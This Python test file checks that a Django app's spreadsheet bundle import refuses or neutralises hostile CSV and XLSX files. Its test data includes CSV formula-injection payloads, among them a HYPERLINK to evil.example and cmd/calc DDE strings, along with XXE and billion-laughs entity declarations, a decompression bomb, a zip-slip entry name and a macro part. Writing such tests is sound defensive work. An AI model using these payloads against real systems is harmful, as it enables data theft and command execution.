"""Hostile input to the bundle import (bundles/, manage.py import_bundle): files that
are damaged, disguised, enormous or crafted. Each refused file leaves every table as it
was and gets a message naming the sheet (and the row and column where there is one);
each accepted file imports exactly what it says, and exports neutralise it."""

import csv
import io
import time
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from openpyxl import Workbook, load_workbook

from bundles.reader import read_bundle
from bundles.services import bundle_import
from bundles.sheets import BundleError
from bundles.writer import bundle_export
from qualifications.models import AwardingBody, Module, Qualification, QualificationModule
from roles.models import Role, RoleQualification
from tests.support.factories import (
    AwardingBodyFactory,
    ModuleFactory,
    QualificationFactory,
    RoleFactory,
)
from tests.support.hostile import assert_clean_message, changed_tables, snapshot

pytestmark = pytest.mark.django_db


# -- helpers -------------------------------------------------------------------------


def csv_bytes(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode()


def folder_with(tmp_path: Path, sheet: str, data: bytes) -> Path:
    folder = tmp_path / "bundle"
    folder.mkdir(exist_ok=True)
    (folder / f"{sheet}.csv").write_bytes(data)
    return folder


def workbook_bytes(sheets: dict[str, list[list]]) -> bytes:
    workbook = Workbook()
    workbook.remove(workbook.active)
    for name, rows in sheets.items():
        worksheet = workbook.create_sheet(name)
        for row in rows:
            worksheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def write_file(tmp_path: Path, name: str, data: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def refused(path: Path) -> str:
    """Import ``path``, which must be refused; every table must be as it was. The message."""
    before = snapshot()
    with pytest.raises(BundleError) as caught:
        bundle_import(path=path)
    assert changed_tables(before) == []
    message = "\n".join(caught.value.messages)
    assert_clean_message(message)
    return message


def xlsx_with_parts(parts: dict[str, bytes | str]) -> bytes:
    """A real workbook with some of its parts replaced or added."""
    base = zipfile.ZipFile(io.BytesIO(workbook_bytes({"qualifications": [["ref", "title"], ["Q1", "Play"]]})))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in base.infolist():
            if info.filename not in parts:
                archive.writestr(info, base.read(info.filename))
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


# -- formula payloads: stored literally, neutralised by both exports -------------------

FORMULAE = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
}


@pytest.mark.parametrize("payload", FORMULAE.values(), ids=FORMULAE.keys())
def test_formula_payload_is_stored_literally_and_neutralised_on_export(tmp_path, payload):
    # a leading tab or CR survives in the title only inside quotes; cells are trimmed, so
    # the payload is put in the middle of the notes too, where nothing trims it
    data = csv_bytes([["ref", "title", "notes"], ["Q1", payload, payload]])
    bundle_import(path=folder_with(tmp_path, "qualifications", data))

    stored = Qualification.objects.get(ref="Q1")
    assert stored.notes == payload.strip()
    bundle_export(path=tmp_path / "out")
    bundle_export(path=tmp_path / "out.xlsx")
    with open(tmp_path / "out" / "qualifications.csv", encoding="utf-8", newline="") as handle:
        exported = next(csv.DictReader(handle))
    cell = load_workbook(tmp_path / "out.xlsx")["qualifications"]["J2"]
    assert exported["notes"] == "'" + stored.notes
    assert cell.value == "'" + stored.notes
    assert cell.data_type == "s"


# -- encodings -----------------------------------------------------------------------


def test_cp1252_file_is_refused_asking_for_utf8(tmp_path):
    data = "ref,title\r\nQ1,Café skills – level 2\r\n".encode("cp1252")

    message = refused(folder_with(tmp_path, "qualifications", data))

    assert message.startswith("sheet qualifications:")
    assert "save it as CSV UTF-8" in message


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be"], ids=["utf16-le-bom", "utf16-be-bom"])
def test_utf16_file_is_refused_asking_for_utf8(tmp_path, encoding):
    data = "ref,title\r\nQ1,Café skills\r\n".encode(encoding)
    if encoding == "utf-16-be":
        data = b"\xfe\xff" + data

    message = refused(folder_with(tmp_path, "qualifications", data))

    assert "sheet qualifications: the file is UTF-16; save it as CSV UTF-8" in message


def test_utf16_file_without_a_byte_order_mark_is_refused_asking_for_utf8(tmp_path):
    data = "ref,title\r\nQ1,Play\r\n".encode("utf-16-le")

    message = refused(folder_with(tmp_path, "qualifications", data))

    assert message == "sheet qualifications: the file is UTF-16; save it as CSV UTF-8"


def test_utf8_file_with_a_byte_order_mark_imports(tmp_path):
    data = "\ufeffref,title\r\nQ1,Café skills\r\n".encode()

    bundle_import(path=folder_with(tmp_path, "qualifications", data))

    assert list(Qualification.objects.values_list("ref", "title")) == [("Q1", "Café skills")]


# -- headers and CSV structure ---------------------------------------------------------


def test_duplicate_header_is_refused_naming_row_1(tmp_path):
    data = csv_bytes([["ref", "title", "ref"], ["Q1", "Play", "Q2"]])

    message = refused(folder_with(tmp_path, "qualifications", data))

    assert "sheet qualifications: row 1, column 3: column 'ref' appears twice" in message


def test_padded_headers_are_read_as_their_names(tmp_path):
    data = csv_bytes([[" ref ", "title\t", "  level"], ["Q1", "Play", "2"]])

    bundle_import(path=folder_with(tmp_path, "qualifications", data))

    assert list(Qualification.objects.values_list("ref", "title", "level")) == [("Q1", "Play", 2)]


def test_header_padded_into_a_duplicate_is_refused(tmp_path):
    data = csv_bytes([["ref", "title", " title "], ["Q1", "Play", "Care"]])

    message = refused(folder_with(tmp_path, "qualifications", data))

    assert "row 1, column 3: column 'title' appears twice" in message


def test_unclosed_quote_is_refused(tmp_path):
    data = b'ref,title\r\nQ1,"Play\r\nQ2,Care\r\n'

    message = refused(folder_with(tmp_path, "qualifications", data))

    assert message.startswith("sheet qualifications: line 3: the file is not valid CSV")
    assert "a quote that is opened and never closed" in message


def test_row_longer_than_the_header_is_refused_naming_its_row(tmp_path):
    data = csv_bytes([["ref", "title"], ["Q1", "Play"], ["Q2", "Care", "surplus"]])

    message = refused(folder_with(tmp_path, "qualifications", data))

    assert "sheet qualifications: row 3: the row has 3 cells but the header has 2 columns" in message


def test_row_shorter_than_the_header_leaves_the_missing_cells_empty(tmp_path):
    data = b"ref,title,level,notes\r\nQ1,Play\r\n"

    bundle_import(path=folder_with(tmp_path, "qualifications", data))

    qualification = Qualification.objects.get()
    assert (qualification.ref, qualification.level, qualification.notes) == ("Q1", None, "")


def test_semicolon_separated_file_is_refused_saying_so(tmp_path):
    data = b"ref;title;level\r\nQ1;Play;2\r\n"

    message = refused(folder_with(tmp_path, "qualifications", data))

    assert message == (
        "sheet qualifications: row 1: the columns are separated by semicolons; "
        "save the file as CSV UTF-8, whose columns are separated by commas"
    )


def test_cell_of_200000_characters_in_a_short_column_is_refused_naming_it(tmp_path):
    data = csv_bytes([["ref", "title"], ["Q1", "x" * 200_000]])

    message = refused(folder_with(tmp_path, "qualifications", data))

    assert "sheet qualifications: row 2, column title: is 200000 characters long; at most 255" in message


def test_cell_of_200000_characters_in_the_notes_is_stored_whole(tmp_path):
    notes = "Long notes. " * 16_667
    assert len(notes) > 200_000
    data = csv_bytes([["ref", "title", "notes"], ["Q1", "Play", notes]])

    bundle_import(path=folder_with(tmp_path, "qualifications", data))

    assert Qualification.objects.get(ref="Q1").notes == notes.strip()


def test_nul_byte_is_refused(tmp_path):
    data = b"ref,title\r\nQ1,Pl\x00ay\r\n"

    message = refused(folder_with(tmp_path, "qualifications", data))

    assert "sheet qualifications: the file contains NUL characters" in message


# -- look-alike refs ---------------------------------------------------------------------

LOOKALIKES = {
    "right-to-left-override": "\u202eQ1",
    "zero-width-space": "Q\u200b1",
    "zero-width-joiner": "Q1\u200d",
    "byte-order-mark-inside": "Q\ufeff1",
    "word-joiner": "\u2060Q1",
    "lower-case": "q1",
    "decomposed-accent": "Qe\u03011",  # e + combining acute; the record is "Qé1" (NFC)
}


@pytest.mark.parametrize("ref", LOOKALIKES.values(), ids=LOOKALIKES.keys())
def test_lookalike_of_an_existing_ref_updates_it_and_never_adds_a_twin(tmp_path, ref):
    existing = "Qé1" if "\u0301" in ref else "Q1"
    QualificationFactory(ref=existing, title="Old title")
    data = csv_bytes([["ref", "title"], [ref, "New title"]])

    bundle_import(path=folder_with(tmp_path, "qualifications", data))

    assert list(Qualification.objects.values_list("ref", "title")) == [(existing, "New title")]


def test_lookalike_refs_in_one_file_are_the_same_row_twice(tmp_path):
    data = csv_bytes([["ref", "title"], ["Q1", "Play"], ["Q\u200b1", "Play"]])

    message = refused(folder_with(tmp_path, "qualifications", data))

    assert "sheet qualifications: row 3, column ref: repeats row 2" in message


def test_same_ref_twice_in_one_file_is_refused_naming_both_rows(tmp_path):
    data = csv_bytes([["ref", "title"], ["Q1", "Play"], ["Q2", "Care"], ["Q1", "Play again"]])

    message = refused(folder_with(tmp_path, "qualifications", data))

    assert "sheet qualifications: row 4, column ref: repeats row 2" in message


# -- bad numbers and levels -----------------------------------------------------------

BAD_HOURS = ["1e999", "NaN", "1,234.5", "Infinity", "-0", "0x10", "٣٠"]


@pytest.mark.parametrize("value", BAD_HOURS)
def test_bad_learning_hours_are_refused_naming_row_and_column(tmp_path, value):
    data = csv_bytes([["ref", "title", "learning_hours"], ["Q1", "Play", value]])

    message = refused(folder_with(tmp_path, "qualifications", data))

    assert message.startswith("sheet qualifications: row 2, column learning_hours:")
    assert "is not a whole number" in message


BAD_LEVELS = ["0", "9", "III", "²", "٣", "3.0", "Level 3"]


@pytest.mark.parametrize("value", BAD_LEVELS)
def test_bad_level_is_refused_naming_row_and_column(tmp_path, value):
    data = csv_bytes([["ref", "title", "level"], ["Q1", "Play", value]])

    message = refused(folder_with(tmp_path, "qualifications", data))

    assert message.startswith("sheet qualifications: row 2, column level:")
    assert "is not a level: use E, 1 to 8, or leave it empty" in message


# -- references to archived records -----------------------------------------------------


def test_links_to_archived_records_are_kept_and_never_make_new_ones(tmp_path):
    # a bundle is a record: an export holds archived rows and the links to them, and must
    # import back as it was
    role = RoleFactory(title="Play worker", status=Role.Status.ARCHIVED)
    module = ModuleFactory(ref="M1", is_archived=True)
    body = AwardingBodyFactory(name="Old Body", is_archived=True)
    QualificationFactory(ref="Q1", status=Qualification.Status.WITHDRAWN)
    folder = tmp_path / "bundle"
    folder.mkdir()
    (folder / "qualifications.csv").write_bytes(
        csv_bytes([["ref", "title", "awarding_body", "status"], ["Q2", "Care", "old body", "current"]])
    )
    (folder / "qualification_modules.csv").write_bytes(
        csv_bytes([["qualification_ref", "module_ref", "mandatory"], ["Q1", "m1", "yes"]])
    )
    (folder / "role_qualifications.csv").write_bytes(
        csv_bytes([["role", "qualification_ref", "key"], ["PLAY WORKER", "Q1", "yes"]])
    )

    bundle_import(path=folder)

    assert Qualification.objects.get(ref="Q2").awarding_body == body
    assert QualificationModule.objects.get().module == module
    assert RoleQualification.objects.get().role == role
    assert (AwardingBody.objects.count(), Module.objects.count(), Role.objects.count()) == (1, 1, 1)
    assert Qualification.objects.get(ref="Q1").status == Qualification.Status.WITHDRAWN
    assert Module.objects.get().is_archived and Role.objects.get().status == Role.Status.ARCHIVED


# -- size ------------------------------------------------------------------------------


def test_ten_thousand_rows_with_one_bad_row_write_nothing_and_name_it(tmp_path):
    rows = [["ref", "title", "level"]] + [[f"Q{n:05d}", f"Certificate {n}", "2"] for n in range(1, 10_001)]
    rows[7_777][2] = "nine"  # data row 7,777: spreadsheet row 7,778

    message = refused(folder_with(tmp_path, "qualifications", csv_bytes(rows)))

    assert message == (
        "sheet qualifications: row 7778, column level: 'nine' is not a level: "
        "use E, 1 to 8, or leave it empty"
    )


def test_a_million_trailing_blank_rows_are_skipped_quickly_in_little_memory(tmp_path):
    data = b"ref,title\r\nQ1,Play\r\n" + b",\r\n" * 1_000_000
    path = folder_with(tmp_path, "qualifications", data)

    started = time.perf_counter()
    bundle_import(path=path)
    seconds = time.perf_counter() - started
    tracemalloc.start()
    try:
        read_bundle(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    assert list(Qualification.objects.values_list("ref", flat=True)) == ["Q1"]
    assert seconds < 3  # about 0.3 s on two cores
    # the file is 3 MB; its text and bytes are held once each, the rows never all at once
    assert peak < 20 * 1024 * 1024, f"peak {peak / 1e6:.0f} MB"


# -- the command -------------------------------------------------------------------------


def test_command_refuses_a_bad_file_with_the_message_and_no_traceback(tmp_path):
    data = "ref,title\r\nQ1,Café\r\n".encode("cp1252")
    before = snapshot()
    stderr = io.StringIO()

    with pytest.raises(CommandError) as caught:
        call_command(
            "import_bundle",
            str(folder_with(tmp_path, "qualifications", data)),
            stdout=io.StringIO(),
            stderr=stderr,
        )

    assert str(caught.value) == "Import refused: nothing was written."
    assert stderr.getvalue() == (
        "sheet qualifications: the file is not UTF-8 (byte 18); save it as CSV UTF-8\n"
    )
    assert changed_tables(before) == []


# -- XLSX: disguised, crafted and oversized workbooks ---------------------------------


def test_decompression_bomb_is_refused_from_the_zip_directory_quickly(tmp_path):
    # 1 GB of spaces inside a sheet compresses to about 1 MB
    out = io.BytesIO()
    chunk = b" " * (16 * 1024 * 1024)
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part,
    ):
        for _ in range(64):
            part.write(chunk)
    path = write_file(tmp_path, "bomb.xlsx", out.getvalue())
    assert path.stat().st_size < 5 * 1024 * 1024

    tracemalloc.start()
    started = time.perf_counter()
    try:
        message = refused(path)
        seconds = time.perf_counter() - started
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    assert "bomb.xlsx: the workbook unpacks to" in message
    assert seconds < 1
    assert peak < 100 * 1024 * 1024


def test_workbook_whose_directory_understates_a_part_is_refused(tmp_path):
    # the directory says 100 bytes; the part inflates to far more
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b" " * 5_000_000)
    data = bytearray(out.getvalue())
    directory = data.rfind(b"PK\x01\x02")
    data[directory + 24 : directory + 28] = (100).to_bytes(4, "little")
    header = data.find(b"PK\x03\x04")
    data[header + 22 : header + 26] = (100).to_bytes(4, "little")

    message = refused(write_file(tmp_path, "liar.xlsx", bytes(data)))

    assert message.startswith("liar.xlsx: ")


def worksheet_xml(cell: str, doctype: str = "") -> str:
    """A qualifications sheet whose second row's title is ``cell``, after ``doctype``."""
    return (
        f'<?xml version="1.0"?>{doctype}<worksheet '
        'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>ref</t></is></c>'
        '<c r="B1" t="inlineStr"><is><t>title</t></is></c></row>'
        '<row r="2"><c r="A2" t="inlineStr"><is><t>Q1</t></is></c>'
        f'<c r="B2" t="inlineStr"><is><t>{cell}</t></is></c></row></sheetData></worksheet>'
    )


def test_billion_laughs_is_refused_at_once(tmp_path):
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    )
    sheet = worksheet_xml("&lol9;", f"<!DOCTYPE worksheet [{entities}]>")
    path = write_file(tmp_path, "laughs.xlsx", xlsx_with_parts({"xl/worksheets/sheet1.xml": sheet}))

    started = time.perf_counter()
    message = refused(path)

    assert time.perf_counter() - started < 0.5
    assert message.startswith("laughs.xlsx: the workbook cannot be read")


def test_external_entity_is_never_read(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET")
    sheet = worksheet_xml("&xxe;", f'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file://{secret}">]>')
    path = write_file(tmp_path, "xxe.xlsx", xlsx_with_parts({"xl/worksheets/sheet1.xml": sheet}))

    message = refused(path)

    assert message.startswith("xxe.xlsx: the workbook cannot be read")
    assert "TOP-SECRET" not in message


def test_any_entity_declaration_is_refused(tmp_path):
    # a spreadsheet never writes one; refusing every DTD leaves no variant to find
    sheet = worksheet_xml("&play;", '<!DOCTYPE worksheet [<!ENTITY play "Play">]>')
    path = write_file(tmp_path, "dtd.xlsx", xlsx_with_parts({"xl/worksheets/sheet1.xml": sheet}))

    message = refused(path)

    assert message.startswith("dtd.xlsx: the workbook cannot be read")


def test_zip_slip_entry_name_is_refused_and_nothing_is_written_outside(tmp_path):
    path = write_file(tmp_path, "slip.xlsx", xlsx_with_parts({"../../slipped.txt": b"boo"}))

    message = refused(path)

    assert message == (
        "slip.xlsx: the workbook holds a part named '../../slipped.txt', outside "
        "the workbook; it cannot be read"
    )
    assert not (tmp_path.parent / "slipped.txt").exists()
    assert not (Path.cwd().parent / "slipped.txt").exists()


@pytest.mark.parametrize(
    "content",
    [
        b"ref,title\r\nQ1,Play\r\n",
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00",
        b"",
    ],
    ids=["csv-named-xlsx", "png-named-xlsx", "empty-named-xlsx"],
)
def test_file_that_is_not_a_workbook_named_xlsx_is_refused(tmp_path, content):
    message = refused(write_file(tmp_path, "qualifications.xlsx", content))

    assert message == "qualifications.xlsx: not an XLSX workbook"


def test_workbook_named_csv_is_refused_saying_what_it_is(tmp_path):
    data = workbook_bytes({"qualifications": [["ref", "title"], ["Q1", "Play"]]})

    message = refused(folder_with(tmp_path, "qualifications", data))

    assert message == (
        "sheet qualifications: the file is an XLSX workbook, not CSV; import it "
        "as a workbook named .xlsx, or save it as CSV UTF-8"
    )


def test_workbook_with_macros_is_refused(tmp_path):
    data = xlsx_with_parts({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})

    message = refused(write_file(tmp_path, "bundle.xlsx", data))

    assert message == (
        "bundle.xlsx: the workbook contains macros; save it as an Excel Workbook (.xlsx) without macros"
    )


def test_macro_enabled_workbook_is_refused_by_its_extension(tmp_path):
    data = workbook_bytes({"qualifications": [["ref", "title"], ["Q1", "Play"]]})

    message = refused(write_file(tmp_path, "bundle.xlsm", data))

    assert message == (
        "bundle.xlsm: a workbook that can carry macros is never imported; save "
        "it as an Excel Workbook (.xlsx) without macros"
    )


def test_data_on_a_sheet_that_is_not_a_bundle_sheet_is_refused(tmp_path):
    data = workbook_bytes(
        {
            "qualifications": [["ref", "title"], ["Q1", "Play"]],
            "Sheet2": [["ref", "title"], ["Q2", "Care"]],
        }
    )

    message = refused(write_file(tmp_path, "bundle.xlsx", data))

    assert message.startswith("sheet Sheet2: not a bundle sheet")


def test_leading_zero_codes_written_as_text_are_kept(tmp_path):
    data = workbook_bytes({"qualifications": [["ref", "title"], ["00123", "Play"]]})

    bundle_import(path=write_file(tmp_path, "bundle.xlsx", data))

    assert list(Qualification.objects.values_list("ref", flat=True)) == ["00123"]


def test_leading_zero_codes_shown_by_a_number_format_are_kept(tmp_path):
    # a spreadsheet that turned 00123 into the number 123 shown with the format 00000
    workbook = Workbook()
    worksheet = workbook.active
    worksheet.title = "qualifications"
    worksheet.append(["ref", "title"])
    worksheet.append([123, "Play"])
    worksheet["A2"].number_format = "00000"
    path = tmp_path / "bundle.xlsx"
    workbook.save(path)

    bundle_import(path=path)

    assert list(Qualification.objects.values_list("ref", flat=True)) == ["00123"]


def test_leading_zero_codes_in_csv_are_kept(tmp_path):
    data = csv_bytes([["ref", "title"], ["00123", "Play"]])

    bundle_import(path=folder_with(tmp_path, "qualifications", data))

    assert list(Qualification.objects.values_list("ref", flat=True)) == ["00123"]


def test_workbook_with_a_million_trailing_blank_rows_is_read_quickly(tmp_path):
    # a sheet whose last formatted row is row 1,048,576 but holds two rows of data
    data = xlsx_with_parts(
        {
            "xl/worksheets/sheet1.xml": (
                '<?xml version="1.0" encoding="UTF-8"?>'
                '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                '<dimension ref="A1:B1048576"/><sheetData>'
                '<row r="1"><c r="A1" t="inlineStr"><is><t>ref</t></is></c>'
                '<c r="B1" t="inlineStr"><is><t>title</t></is></c></row>'
                '<row r="2"><c r="A2" t="inlineStr"><is><t>Q1</t></is></c>'
                '<c r="B2" t="inlineStr"><is><t>Play</t></is></c></row>'
                '<row r="1048576"><c r="B1048576" s="0"/></row>'
                "</sheetData></worksheet>"
            )
        }
    )
    path = write_file(tmp_path, "bundle.xlsx", data)

    started = time.perf_counter()
    bundle_import(path=path)

    assert time.perf_counter() - started < 10
    assert list(Qualification.objects.values_list("ref", "title")) == [("Q1", "Play")]
